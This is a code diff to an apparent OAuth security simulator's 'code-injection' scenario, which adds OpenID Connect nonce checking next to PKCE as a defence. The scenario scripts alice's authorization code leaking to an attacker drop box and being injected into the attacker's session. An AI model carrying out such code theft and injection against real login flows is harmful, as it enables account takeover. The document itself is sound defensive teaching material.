@@ -1,7 +1,7 @@
 """code-injection: RFC 9700 §4.5.1. A stolen authorization code is injected into the
 attacker's own session at the confidential client, which redeems it with its own secret.
-The client secret does not help; PKCE does (RFC 9700 §4.5.3.1; for OpenID Connect clients
-the nonce, §4.5.3.2).
+The client secret does not help; PKCE does (RFC 9700 §4.5.3.1), and so does the OpenID
+Connect nonce (§4.5.3.2): both logins here are OpenID Connect logins (`/login?openid=1`).
 
   1. Alice logs in at the client (the confidential web client). Her authorization response
      leaks before the client gets it (RFC 9700 §3, attacker A3): here a malicious browser
@@ -15,7 +15,11 @@ the nonce, §4.5.3.2).
   4. The client redeems the code with its client secret and the PKCE verifier of the
      attacker's login. With PKCE the code is bound to alice's code_challenge: the verifier
      does not match, invalid_grant. Without PKCE (this client sends no challenge) the
-     server issues alice's tokens to the attacker's session.
+     server issues alice's tokens, with an ID token.
+  5. The ID token carries the nonce of alice's login; the attacker's session at the client
+     holds the nonce of the attacker's own login. They differ: the client refuses the login
+     and uses none of the tokens (RFC 9700 §4.5.3.2). Without that check too, alice's
+     tokens log the attacker's session in.
 """
 
 from __future__ import annotations
@@ -39,11 +43,15 @@ from sim.scenarios.base import (
 )
 
 ALICES_PHOTO = "Tea party"
+#: Both logins are OpenID Connect logins: scope openid and a nonce kept in the session.
+LOGIN = "/login?openid=1"
 
 
 class CodeInjection(AttackScenario):
     name = "code-injection"
-    description = "A stolen code injected into the attacker's own session at the client (PKCE)"
+    description = (
+        "A stolen code injected into the attacker's own session at the client (PKCE, nonce)"
+    )
     rfc = "RFC 9700 §4.5"
     guards = (
         Guard(
@@ -54,6 +62,16 @@ class CodeInjection(AttackScenario):
             "no code_challenge binds the code to the login that asked for it, so the client "
             "secret alone lets the code through",
             "RFC 9700 §4.5.3.1, RFC 7636 §4.6",
+        ),
+        Guard(
+            defences.NONCE,
+            step(ATTACKER, CLIENT, "GET", "/callback"),
+            "the ID token that came with alice's code carries the nonce of alice's login, not "
+            "the one this session sent: the client refuses the login and uses none of the "
+            "tokens",
+            "the client does not compare the ID token's nonce with the one its session sent, "
+            "so alice's tokens log the attacker's session in",
+            "RFC 9700 §4.5.3.2, OIDC Core §3.1.3.7",
         ),
     )
 
@@ -78,14 +96,17 @@ class CodeInjection(AttackScenario):
         # 1. Alice's login; her authorization response leaks before the client sees it.
         victim = stage.user_agent(flow)
         callback = stage.client_url + "/callback"
-        last = log_in_and_consent(victim, victim.get(stage.client_url + "/login"), stop_at=callback)
+        start = victim.get(stage.client_url + LOGIN)
+        last = log_in_and_consent(victim, start, stop_at=callback)
         response = victim.location(last) or ""
         if not answer_param(response, "code"):
             raise ScenarioError(f"no code for alice ({last.status_code})")
         victim.get(attacker.drop_box(code=answer_param(response, "code")))
         stolen = attacker.last("leak", "code")
         # 2-3. The attacker's own login, with alice's code swapped into its response.
-        own = client_login_stopped_before_callback(stage, attacker.browser, "bob", "builder")
+        own = client_login_stopped_before_callback(
+            stage, attacker.browser, "bob", "builder", start_path=LOGIN
+        )
         page = attacker.browser.open(with_params(own, code=stolen))
         sees_alice = page.ok and ALICES_PHOTO in page.text
         return Attempt(
